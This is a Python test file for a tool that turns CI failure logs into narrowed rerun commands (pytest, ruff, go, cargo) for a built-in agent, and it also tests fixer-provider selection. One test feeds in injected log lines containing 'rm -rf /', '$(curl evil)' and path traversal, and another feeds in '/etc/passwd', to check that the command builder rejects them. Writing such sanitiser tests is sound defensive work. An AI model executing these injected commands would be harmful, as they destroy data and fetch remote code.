"""The commands the built-in agent may run are built in code, from strict patterns only."""

from __future__ import annotations

from app.diagnosis.model import Category, Diagnosis, KeyLine
from app.fix.checks import narrowed_command, offered_checks
from app.fix.fixers.select import FixerSettings, resolve_kind


def diagnosis(tool: str, *lines: tuple[str, str | None]) -> Diagnosis:
    return Diagnosis(
        category=Category.TEST if tool in ("pytest", "go", "cargo") else Category.LINT,
        confidence=1.0,
        tool=tool,
        key_lines=tuple(KeyLine(text=text, file=file) for text, file in lines),
    )


def test_pytest_failures_rerun_just_the_failing_node_ids() -> None:
    d = diagnosis(
        "pytest",
        ("FAILED tests/test_calc.py::test_add - assert 0 == 4", None),
        ("FAILED tests/test_calc.py::TestX::test_sub[1-2] - boom", None),
    )
    assert narrowed_command(d) == (
        "python3 -m pytest -x -q tests/test_calc.py::test_add "
        "'tests/test_calc.py::TestX::test_sub[1-2]'"
    )


def test_shell_syntax_in_a_log_never_reaches_the_command() -> None:
    d = diagnosis(
        "pytest",
        ("FAILED tests/t.py::test_a;rm -rf / - x", None),
        ("FAILED $(curl evil)/t.py::test_b - x", None),
        ("FAILED ../../etc/t.py::test_c - x", None),
        ("FAILED tests/t.py::test_d - x", None),
    )
    assert narrowed_command(d) == "python3 -m pytest -x -q tests/t.py::test_d"


def test_lint_failures_rerun_the_tool_on_the_named_files() -> None:
    d = diagnosis("ruff", ("F401 unused import", "src/app.py"), ("E501", "/etc/passwd"))
    assert narrowed_command(d) == "ruff check src/app.py"


def test_go_and_rust_tests_are_narrowed_by_name() -> None:
    assert narrowed_command(diagnosis("go", ("--- FAIL: TestAdd (0.00s)", None))) == (
        "go test ./... -run '^(TestAdd)$'"
    )
    rust = diagnosis("cargo", ("test calc::tests::adds ... FAILED", None))
    assert narrowed_command(rust) == "cargo test calc::tests::adds"


def test_nothing_certain_means_no_narrowed_check_but_verify_is_still_offered() -> None:
    d = Diagnosis(category=Category.BUILD, confidence=0.5, tool="make")
    assert narrowed_command(d) is None
    assert [c.name for c in offered_checks("make test", d)] == ["verify"]
    assert offered_checks(None, d) == ()


def test_the_operators_choice_applies_and_a_model_fixer_uses_the_provider_with_a_key() -> None:
    settings = FixerSettings(default_kind="agent", openai_api_key="k")
    assert resolve_kind("", "anthropic", settings) == ("agent", "openai")
    assert resolve_kind("auto", "openai", settings) == ("agent", "openai")
    assert resolve_kind("command", "anthropic", settings) == ("command", "anthropic")
    assert resolve_kind("agent", "anthropic", settings) == ("agent", "anthropic")  # as named
    both = FixerSettings(default_kind="api", anthropic_api_key="a", openai_api_key="o")
    assert resolve_kind("", "openai", both) == ("api", "openai")
